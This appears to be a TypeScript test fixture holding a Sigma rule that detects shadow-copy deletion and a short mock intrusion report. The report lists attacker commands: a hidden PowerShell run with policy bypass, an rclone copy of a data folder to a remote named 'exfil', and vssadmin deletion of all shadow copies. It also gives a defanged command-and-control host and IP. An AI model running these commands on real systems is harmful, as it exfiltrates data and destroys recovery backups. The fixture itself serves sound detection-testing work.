/** A rule with nothing to be found fault with. */
export const soundRule = String.raw`title: Shadow copies deleted
id: 5f1c1a52-d0f8-4c7c-9e0a-3b1c5d7e2f40
status: test
description: Something.
references: [https://blog.example/one]
author: Tests
date: 2026-01-31
tags: [attack.impact, attack.t1490]
logsource:
  category: process_creation
  product: windows
detection:
  selection:
    Image|endswith: '\vssadmin.exe'
    CommandLine|contains|all:
      - 'delete shadows'
      - '/quiet'
  condition: selection
falsepositives: [Unknown]
level: high
`;

/** An article with commands, a pipe and addresses, of which most become a rule. */
export const intrusion = String.raw`The intruders ran these commands:

powershell.exe -nop -w hidden -ep bypass -File C:\ProgramData\upd.ps1
rclone.exe copy D:\data remote:exfil --transfers 32 --no-check-certificate
vssadmin delete shadows /all /quiet
whoami /all

It used the named pipe \\.\pipe\msagent_4f. C2: evil-update[.]com and 203.0.113[.]9.`;
